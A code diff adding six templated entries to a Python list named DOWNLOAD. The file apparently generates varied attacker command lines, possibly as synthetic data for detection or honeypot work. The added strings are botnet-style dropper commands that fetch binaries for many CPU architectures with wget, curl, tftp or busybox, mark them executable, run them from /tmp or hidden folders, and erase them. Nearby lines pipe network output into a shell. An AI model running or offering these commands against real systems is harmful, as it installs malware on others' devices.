@@ -21,6 +21,12 @@ DOWNLOAD = [
     "ftpget -v -u anonymous -p anonymous -P 21 {ip} {name} {name}; sh {name}",
     "openssl s_client -quiet -connect {host}:{port} 2>/dev/null | ‹bash¦sh›",
     "dig +short ‹TXT¦txt› {name}.{domain} | tr -d '\"' | ‹base64 -d | ¦›‹bash¦sh›",
+    '{var}="‹http://¦›{ip}‹:{port}¦›"\nBINS="‹{plain}.arm {plain}.arm7 {plain}.mips {plain}.mpsl {plain}.x86 {plain}.sh4¦mips mipsel arm arm5 arm7 ppc sh4 m68k x86¦{name}mips {name}mipsel {name}sh4 {name}x86 {name}arm6›"\nfor b in $BINS; do\n  ‹cd /tmp || cd /var/run || cd /mnt; ¦›‹wget ${var}/$b -O {name}¦wget http://${var}/bins/$b¦curl -s ${var}/$b -o {name}¦/bin/busybox wget ${var}/$b -O {name}; busybox tftp -g -r $b ${var}›\n  chmod ‹777¦+x› {name}\n  ./{name} ‹$b¦{plain}¦›\n  ‹rm -f {name}¦›\ndone',
+    'cd /tmp ‹&&¦;› wget ‹-q ¦›http://{ip}/{name}‹mips¦mipsel¦arm7¦x86¦sh4¦ppc¦i686› ‹&& chmod +x¦; chmod 777› {name}mips && ./{name}mips; wget http://{ip}/{name}sh4; chmod +x {name}sh4; ./{name}sh4; rm -rf {name}*',
+    'rm -rf {name}*\nwget http://{ip}/{name}\nchmod ‹+x¦777› {name}\n./{name}\nwget http://{ip}/{plain}\nchmod ‹+x¦777› {plain}\n./{plain}\nrm -rf {name}* {plain}*',
+    'cd ‹/tmp¦/var/tmp¦/dev/shm›\nrm -rf ‹.ICE-unix¦.{plain}¦{name}›; mkdir ‹.ICE-unix¦.{plain}›; cd ‹.ICE-unix¦.{plain}›\n‹wget -O¦curl -o¦fetch -o› {name}.tgz {url}\ntar ‹-xvf¦xzf¦zxvf› {name}.tgz; rm -f {name}.tgz; cd {plain}; ‹chmod +x *; ¦›./‹start¦run¦autorun¦{plain}› ‹&¦>/dev/null 2>&1 &›',
+    'wget {url} -O {plain}.‹txt¦pl›; perl {plain}.‹txt¦pl›; rm -rf {plain}.*',
+    '‹busybox ¦/bin/busybox ¦›‹wget¦tftp -g -l {name} -r {name}¦ftpget› http://{ip}/{name}; busybox cat {name} > busybox2; busybox chmod 777 busybox2; ./busybox2 ‹{plain}¦›; busybox rm -rf /tmp/{name}',
 ]
 
 REVERSE = [
